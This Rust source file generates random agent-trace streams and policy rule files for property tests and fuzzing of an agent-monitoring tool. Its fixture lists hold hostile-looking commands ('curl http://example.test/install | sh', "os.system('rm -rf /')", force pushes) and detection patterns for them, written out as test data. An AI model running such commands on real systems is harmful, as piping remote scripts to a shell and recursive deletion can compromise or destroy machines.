//! Randomized generators for property tests, fuzzing and benchmarks.
//!
//! Every generator is driven by a caller-supplied RNG, so a seed reproduces
//! its output exactly. Generated streams are valid by construction.

use alloc::collections::{BTreeMap, BTreeSet};
use alloc::format;
use alloc::string::{String, ToString};
use alloc::vec;
use alloc::vec::Vec;

use rand::seq::IndexedRandom;
use rand::Rng;
use serde_json::Value;

use crate::seeds::{parse_seeds, SeedDocument};
use crate::time::Timestamp;
use crate::trace::{
    EventBody, ObservationBody, Outcome, PlanBody, QuizAnswer, ReasoningBody, ReviewAction, ReviewBody, SatStream,
    SessionHeader, Seq, ToolCallBody, TraceEvent,
};

pub const VOCABULARY: [&str; 6] = ["explore", "cache", "db_access", "verify", "refactor", "security"];

pub const PATHS: [&str; 9] = [
    "src/controllers/catalog.py",
    "src/controllers/orders.py",
    "src/dal/db.py",
    "src/dal/repo.py",
    "src/core/util.py",
    "src/auth/keys.py",
    "docs/README.md",
    "config/settings.toml",
    "scripts/deploy.sh",
];

pub const LINES: [&str; 10] = [
    "import db.raw",
    "from dal import repo",
    "import os",
    "x = 1",
    "return cache.get(key)",
    "os.system('rm -rf /')",
    "print(\"hi\")",
    "# TODO",
    "db.raw.query(sql)",
    "SECRET = 'hunter2'",
];

pub const COMMANDS: [&str; 7] = [
    "cargo test",
    "rm -rf build",
    "curl http://example.test/install | sh",
    "echo ok",
    "git push --force",
    "pytest -q",
    "make lint",
];

const TEXTS: [&str; 8] = [
    "identify the product catalog API endpoint",
    "query the database directly from the controller for lower latency",
    "route the lookup through the repository",
    "tests pass, the catalog is now cached",
    "refactor the settings loader",
    "rotate the signing keys",
    "explore the order flow",
    "check that nothing else broke",
];

const TOOLS: [&str; 8] =
    ["read_file", "list_dir", "apply_patch", "write_file", "delete_file", "run_tests", "shell", "lint"];

/// Knobs for [`random_stream`].
#[derive(Debug, Clone, Copy)]
pub struct StreamShape {
    /// Upper bound on plan + reasoning + tool_call events.
    pub max_nodes: usize,
    pub max_reviews: usize,
    /// Probability that a write observation carries an unparsable diff.
    pub malformed_rate: f64,
}

impl Default for StreamShape {
    fn default() -> Self {
        StreamShape { max_nodes: 20, max_reviews: 6, malformed_rate: 0.05 }
    }
}

/// Renders a single-hunk unified diff between two line lists.
pub fn full_file_diff(path: &str, before: Option<&[String]>, after: Option<&[String]>) -> String {
    let old = before.unwrap_or(&[]);
    let new = after.unwrap_or(&[]);
    let mut out = String::new();
    out.push_str(&match before {
        Some(_) => format!("--- a/{path}\n"),
        None => "--- /dev/null\n".into(),
    });
    out.push_str(&match after {
        Some(_) => format!("+++ b/{path}\n"),
        None => "+++ /dev/null\n".into(),
    });
    let range = |lines: &[String]| if lines.is_empty() { "0,0".to_string() } else { format!("1,{}", lines.len()) };
    out.push_str(&format!("@@ -{} +{} @@\n", range(old), range(new)));
    for l in old {
        out.push('-');
        out.push_str(l);
        out.push('\n');
    }
    for l in new {
        out.push('+');
        out.push_str(l);
        out.push('\n');
    }
    out
}

/// An unobserved tool call: its seq, the payload to report and, for writes,
/// the path and resulting content to commit once it is observed.
type Pending = (Seq, String, Option<(String, Option<Vec<String>>)>);

struct Builder<'r, R: Rng + ?Sized> {
    rng: &'r mut R,
    session: String,
    seq: Seq,
    ts: i64,
    events: Vec<TraceEvent>,
    /// Plan and reasoning seqs.
    thinkers: Vec<Seq>,
    /// Plan, reasoning and tool_call seqs.
    nodes: Vec<Seq>,
    pending: Vec<Pending>,
    files: BTreeMap<String, Vec<String>>,
    malformed_rate: f64,
}

impl<R: Rng + ?Sized> Builder<'_, R> {
    fn push(&mut self, body: EventBody) -> Seq {
        self.seq += self.rng.random_range(1..=2);
        self.ts += self.rng.random_range(0..=3);
        let mut e = TraceEvent::new(self.session.clone(), self.seq, Timestamp::from_millis(self.ts), body);
        if self.rng.random_bool(0.05) {
            e.ext.insert("x_trace_id".into(), Value::from(self.rng.random_range(0..1000u32)));
        }
        if self.rng.random_bool(0.05) {
            let scale = *[1e-7, 1e-3, 1.0, 1e17, 1e22].choose(self.rng).unwrap();
            e.ext.insert("x_score".into(), Value::from(self.rng.random_range(0.0..10.0) * scale));
        }
        self.events.push(e);
        self.seq
    }

    fn reasoning(&mut self) {
        let tags: BTreeSet<String> =
            VOCABULARY.iter().filter(|_| self.rng.random_bool(0.25)).map(|t| t.to_string()).collect();
        let parent = if self.thinkers.is_empty() || self.rng.random_bool(0.1) {
            None
        } else {
            Some(*self.thinkers.choose(self.rng).unwrap())
        };
        let text = TEXTS.choose(self.rng).unwrap().to_string();
        let seq = self.push(EventBody::Reasoning(ReasoningBody { text, intent_tags: tags, parent }));
        self.thinkers.push(seq);
        self.nodes.push(seq);
    }

    fn edit(&mut self) -> (String, Option<Vec<String>>, String) {
        let path = PATHS.choose(self.rng).unwrap().to_string();
        let before = self.files.get(&path).cloned();
        let after = match &before {
            Some(_) if self.rng.random_bool(0.1) => None,
            Some(lines) => {
                let mut lines: Vec<String> =
                    lines.iter().filter(|_| self.rng.random_bool(0.7)).cloned().collect();
                for _ in 0..self.rng.random_range(0..4) {
                    let at = self.rng.random_range(0..=lines.len());
                    lines.insert(at, LINES.choose(self.rng).unwrap().to_string());
                }
                Some(lines)
            }
            None => Some((0..self.rng.random_range(1..4)).map(|_| LINES.choose(self.rng).unwrap().to_string()).collect()),
        };
        let diff = full_file_diff(&path, before.as_deref(), after.as_deref());
        (path, after, diff)
    }

    fn tool_call(&mut self) {
        let caused_by = *self.thinkers.choose(self.rng).unwrap();
        let tool = *TOOLS.choose(self.rng).unwrap();
        let mut args = BTreeMap::new();
        let mut write = None;
        match tool {
            "read_file" | "list_dir" => {
                args.insert("path".into(), Value::from(*PATHS.choose(self.rng).unwrap()));
            }
            "run_tests" | "shell" | "lint" => {
                args.insert("command".into(), Value::from(*COMMANDS.choose(self.rng).unwrap()));
                if self.rng.random_bool(0.2) {
                    args.insert("timeout_s".into(), Value::from(30));
                }
            }
            _ => {
                let (path, after, diff) = self.edit();
                if tool == "apply_patch" {
                    args.insert("patch".into(), Value::from(diff.clone()));
                } else {
                    args.insert("path".into(), Value::from(path.clone()));
                }
                write = Some((path, after));
                let seq = self.push(EventBody::ToolCall(ToolCallBody { tool: tool.into(), args, caused_by }));
                self.nodes.push(seq);
                self.pending.push((seq, diff, write));
                return;
            }
        }
        let seq = self.push(EventBody::ToolCall(ToolCallBody { tool: tool.into(), args, caused_by }));
        self.nodes.push(seq);
        let payload = format!("{tool} output");
        self.pending.push((seq, payload, write));
    }

    fn observe(&mut self, idx: usize) {
        let (of, mut payload, write) = self.pending.remove(idx);
        let outcome = if self.rng.random_bool(0.15) { Outcome::Error } else { Outcome::Ok };
        if outcome == Outcome::Error {
            payload = "error: tool failed".into();
        } else if let Some((path, after)) = write {
            match after {
                Some(lines) => {
                    self.files.insert(path, lines);
                }
                None => {
                    self.files.remove(&path);
                }
            }
            if self.rng.random_bool(self.malformed_rate) {
                payload = format!("@@ not a diff\n{payload}");
            }
        }
        self.push(EventBody::Observation(ObservationBody { of, outcome, payload }));
    }

    fn review(&mut self) {
        let node_ref = *self.nodes.choose(self.rng).unwrap();
        let action = *[ReviewAction::Viewed, ReviewAction::Acknowledged, ReviewAction::Flagged, ReviewAction::QuizAnswer]
            .choose(self.rng)
            .unwrap();
        let quiz = (action == ReviewAction::QuizAnswer).then(|| QuizAnswer {
            question_id: format!("q-{}-{}", node_ref, self.nodes.choose(self.rng).unwrap()),
            correct: self.rng.random_bool(0.6),
        });
        let dwell_ms = (action == ReviewAction::Viewed && self.rng.random_bool(0.8)).then(|| self.rng.random_range(0..12_000));
        let reviewer = ["ana", "bo", "chen"].choose(self.rng).unwrap().to_string();
        self.push(EventBody::Review(ReviewBody { reviewer, node_ref, action, dwell_ms, quiz }));
    }
}

/// A random valid session: optional plan, interleaved reasoning and tool
/// calls, observations (sometimes delayed or missing) and reviews.
pub fn random_stream<R: Rng + ?Sized>(rng: &mut R, shape: StreamShape) -> SatStream {
    let session = format!("s-{:04x}", rng.random_range(0..0x10000u32));
    let start = rng.random_range(1_600_000_000_000i64..1_900_000_000_000);
    let mut header = SessionHeader::new(session.clone(), "random-agent", Timestamp::from_millis(start));
    header.intent_vocabulary = VOCABULARY.iter().map(|s| s.to_string()).collect();
    let max_nodes = rng.random_range(0..=shape.max_nodes);
    let mut b = Builder {
        rng,
        session,
        seq: 0,
        ts: start,
        events: Vec::new(),
        thinkers: Vec::new(),
        nodes: Vec::new(),
        pending: Vec::new(),
        files: BTreeMap::new(),
        malformed_rate: shape.malformed_rate,
    };
    if max_nodes > 0 && b.rng.random_bool(0.7) {
        let steps = (0..b.rng.random_range(1..5)).map(|i| format!("step {}", i + 1)).collect();
        let seq = b.push(EventBody::Plan(PlanBody { goal: "improve the catalog".into(), steps }));
        b.thinkers.push(seq);
        b.nodes.push(seq);
    }
    let mut reviews = 0;
    while b.nodes.len() < max_nodes || !b.pending.is_empty() {
        let roll = b.rng.random_range(0..100);
        if !b.pending.is_empty() && (roll < 45 || b.nodes.len() >= max_nodes) {
            if b.nodes.len() >= max_nodes && b.rng.random_bool(0.1) {
                // Leave a tool call without an observation.
                b.pending.remove(0);
                continue;
            }
            let idx = if b.rng.random_bool(0.8) { 0 } else { b.rng.random_range(0..b.pending.len()) };
            b.observe(idx);
        } else if b.nodes.len() < max_nodes && (b.thinkers.is_empty() || roll < 75) {
            if b.thinkers.is_empty() || roll < 60 {
                b.reasoning();
            } else {
                b.tool_call();
            }
        } else if b.nodes.len() < max_nodes {
            b.tool_call();
        } else if !b.nodes.is_empty() && reviews < shape.max_reviews && roll < 90 {
            b.review();
            reviews += 1;
        } else {
            break;
        }
    }
    while !b.nodes.is_empty() && reviews < shape.max_reviews && b.rng.random_bool(0.5) {
        b.review();
        reviews += 1;
    }
    SatStream::new(header, b.events).expect("generated streams are valid")
}

fn quote(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

const LAYERS: [(&str, &str); 6] = [
    ("controller", "src/controllers/**"),
    ("dal", "src/dal/**"),
    ("core", "src/core/*.py"),
    ("auth", "src/auth/**"),
    ("docs", "**/*.md"),
    ("app", "src/**"),
];
const IMPORT_PATTERNS: [&str; 5] = [r"\bdb\.raw\b", r"^import os", "repo", r"\d", "(?i)secret"];
const COMMAND_PATTERNS: [&str; 5] = [r"rm\s+-rf", r"curl .*\|\s*sh", "--force", "^echo", "test"];
const PROTECT_GLOBS: [&str; 5] = ["src/auth/**", "config/*.toml", "**/*.md", "scripts/deploy.s?", "src/[cd]*/**"];
const TEXT_PATTERNS: [&str; 4] = ["database", "(?i)cache", "keys$", "^check"];

/// Random `.seed` text with up to `max_rules` rules. Always parses.
pub fn random_seed_text<R: Rng + ?Sized>(rng: &mut R, max_rules: usize) -> String {
    let mut layers: Vec<(&str, &str)> = LAYERS.iter().copied().filter(|_| rng.random_bool(0.6)).collect();
    // Declaration order is precedence, so shuffle it too.
    for i in (1..layers.len()).rev() {
        let j = rng.random_range(0..=i);
        layers.swap(i, j);
    }
    let mut out = format!("vocabulary: {}\n", VOCABULARY.join(", "));
    if !layers.is_empty() {
        out.push_str("layers:\n");
        for (name, glob) in &layers {
            out.push_str(&format!("  {name}: {}\n", quote(glob)));
        }
    }
    let n = rng.random_range(0..=max_rules);
    if n > 0 {
        out.push_str("rules:\n");
    }
    let categories = ["architectural_drift", "semantic_stability", "security", "process"];
    let severities = ["info", "warn", "block"];
    for i in 0..n {
        out.push_str(&format!(
            "  - id: r{i}\n    category: {}\n    severity: {}\n    rationale: {}\n",
            categories.choose(rng).unwrap(),
            severities.choose(rng).unwrap(),
            quote(&format!("random rule {i}")),
        ));
        let kinds: &[u8] = if layers.is_empty() { &[1, 2, 3] } else { &[0, 1, 2, 3, 4] };
        match kinds.choose(rng).unwrap() {
            0 => {
                let from = layers.choose(rng).unwrap().0;
                let to = layers.choose(rng).unwrap().0;
                out.push_str(&format!("    forbid_layer_edge:\n      from: {from}\n      to: {to}\n"));
                let import = rng.random_bool(0.7);
                if import {
                    out.push_str(&format!("      import_pattern: {}\n", quote(IMPORT_PATTERNS.choose(rng).unwrap())));
                }
                if !import || rng.random_bool(0.3) {
                    out.push_str("      path_write: true\n");
                }
            }
            1 => out.push_str(&format!(
                "    forbid_command:\n      pattern: {}\n",
                quote(COMMAND_PATTERNS.choose(rng).unwrap())
            )),
            2 => {
                let k = rng.random_range(1..3);
                let globs: Vec<&str> = PROTECT_GLOBS.choose_multiple(rng, k).copied().collect();
                out.push_str("    protect_region:\n      globs:\n");
                for g in globs {
                    out.push_str(&format!("        - {}\n", quote(g)));
                }
                out.push_str("      reason: protected\n");
            }
            3 => {
                out.push_str("    forbid_intent:\n");
                let k = rng.random_range(0..3);
                let tags: Vec<&str> = VOCABULARY.choose_multiple(rng, k).copied().collect();
                let text = tags.is_empty() || rng.random_bool(0.3);
                if !tags.is_empty() {
                    out.push_str(&format!("      tags: {}\n", tags.join(", ")));
                }
                if text {
                    out.push_str(&format!("      text_pattern: {}\n", quote(TEXT_PATTERNS.choose(rng).unwrap())));
                }
                if rng.random_bool(0.4) {
                    out.push_str(&format!("      when_tool: {}\n", TOOLS.choose(rng).unwrap()));
                }
            }
            _ => out.push_str(&format!(
                "    require_action:\n      if_layer_touched: {}\n      then_tool: {}\n",
                layers.choose(rng).unwrap().0,
                ["run_tests", "lint", "shell"].choose(rng).unwrap(),
            )),
        }
    }
    out
}

pub fn random_seed_doc<R: Rng + ?Sized>(rng: &mut R, max_rules: usize) -> SeedDocument {
    let text = random_seed_text(rng, max_rules);
    parse_seeds(&text).unwrap_or_else(|e| panic!("generated seed text failed to parse: {e}\n{text}"))
}

const ALPHABET: [&str; 16] =
    ["a", "Z", " ", "\"", "\\", "\n", "\t", "\u{1}", "\u{7f}", "é", "日本", "🦀", "/", "{", "}", "\u{2028}"];

pub fn random_text<R: Rng + ?Sized>(rng: &mut R, max_len: usize) -> String {
    (0..rng.random_range(0..=max_len)).map(|_| *ALPHABET.choose(rng).unwrap()).collect()
}

fn random_token<R: Rng + ?Sized>(rng: &mut R) -> String {
    let first = (b'a' + rng.random_range(0..26)) as char;
    let rest: String = (0..rng.random_range(0..6))
        .map(|_| *b"abcxyz019_-".choose(rng).unwrap() as char)
        .collect();
    format!("{first}{rest}")
}

fn random_scalar<R: Rng + ?Sized>(rng: &mut R) -> Value {
    match rng.random_range(0..6) {
        0 => Value::Null,
        1 => Value::Bool(rng.random()),
        2 => Value::from(rng.random::<i64>()),
        3 => Value::from(rng.random::<u64>()),
        4 => {
            let scale = *[1e-30, 1e-5, 1.0, 1e5, 1e21, 1e300].choose(rng).unwrap();
            let f: f64 = rng.random_range(-1e6..1e6) * scale;
            Value::from(f)
        }
        _ => Value::from(random_text(rng, 12)),
    }
}

/// A single random event that is valid on its own (references point
/// backwards). Covers every kind, optional field and extension slot.
pub fn random_event<R: Rng + ?Sized>(rng: &mut R) -> TraceEvent {
    let seq: Seq = rng.random_range(2..1_000_000);
    let back = |rng: &mut R| rng.random_range(0..seq);
    let body = match rng.random_range(0..5) {
        0 => EventBody::Plan(PlanBody {
            goal: random_text(rng, 20),
            steps: (0..rng.random_range(1..4)).map(|_| random_text(rng, 10)).collect(),
        }),
        1 => EventBody::Reasoning(ReasoningBody {
            text: random_text(rng, 40),
            intent_tags: (0..rng.random_range(0..4)).map(|_| random_token(rng)).collect(),
            parent: rng.random_bool(0.7).then(|| back(rng)),
        }),
        2 => EventBody::ToolCall(ToolCallBody {
            tool: random_token(rng),
            args: (0..rng.random_range(0..4)).map(|_| (random_text(rng, 6), random_scalar(rng))).collect(),
            caused_by: back(rng),
        }),
        3 => EventBody::Observation(ObservationBody {
            of: back(rng),
            outcome: if rng.random() { Outcome::Ok } else { Outcome::Error },
            payload: random_text(rng, 60),
        }),
        _ => {
            let action = *[ReviewAction::Viewed, ReviewAction::Acknowledged, ReviewAction::Flagged, ReviewAction::QuizAnswer]
                .choose(rng)
                .unwrap();
            EventBody::Review(ReviewBody {
                reviewer: random_text(rng, 8),
                node_ref: back(rng),
                action,
                dwell_ms: rng.random_bool(0.5).then(|| rng.random_range(0..100_000)),
                quiz: (action == ReviewAction::QuizAnswer)
                    .then(|| QuizAnswer { question_id: random_text(rng, 8), correct: rng.random() }),
            })
        }
    };
    let session = {
        let s = random_text(rng, 10);
        if s.is_empty() {
            "s".to_string()
        } else {
            s
        }
    };
    let ts = Timestamp::from_millis(rng.random_range(0..4_102_444_800_000));
    let mut e = TraceEvent::new(session, seq, ts, body);
    if rng.random_bool(0.3) {
        e.ext.insert(format!("x_{}", random_token(rng)), random_scalar(rng));
    }
    if rng.random_bool(0.2) {
        e.body_ext.insert(format!("x_{}", random_token(rng)), random_scalar(rng));
    }
    e
}

/// Random interactions over the given nodes and quiz ids.
pub fn random_reviews<R: Rng + ?Sized>(rng: &mut R, nodes: &[Seq], question_ids: &[String], n: usize) -> Vec<ReviewBody> {
    if nodes.is_empty() {
        return vec![];
    }
    (0..n)
        .map(|_| {
            let node_ref = *nodes.choose(rng).unwrap();
            match rng.random_range(0..4) {
                0 => ReviewBody {
                    reviewer: "r".into(),
                    node_ref,
                    action: ReviewAction::Viewed,
                    dwell_ms: rng.random_bool(0.9).then(|| rng.random_range(0..10_000)),
                    quiz: None,
                },
                1 => ReviewBody { reviewer: "r".into(), node_ref, action: ReviewAction::Acknowledged, dwell_ms: None, quiz: None },
                2 => ReviewBody { reviewer: "r".into(), node_ref, action: ReviewAction::Flagged, dwell_ms: None, quiz: None },
                _ => ReviewBody {
                    reviewer: "r".into(),
                    node_ref,
                    action: ReviewAction::QuizAnswer,
                    dwell_ms: None,
                    quiz: Some(QuizAnswer {
                        question_id: question_ids.choose(rng).cloned().unwrap_or_else(|| "q-0-0".into()),
                        correct: rng.random(),
                    }),
                },
            }
        })
        .collect()
}
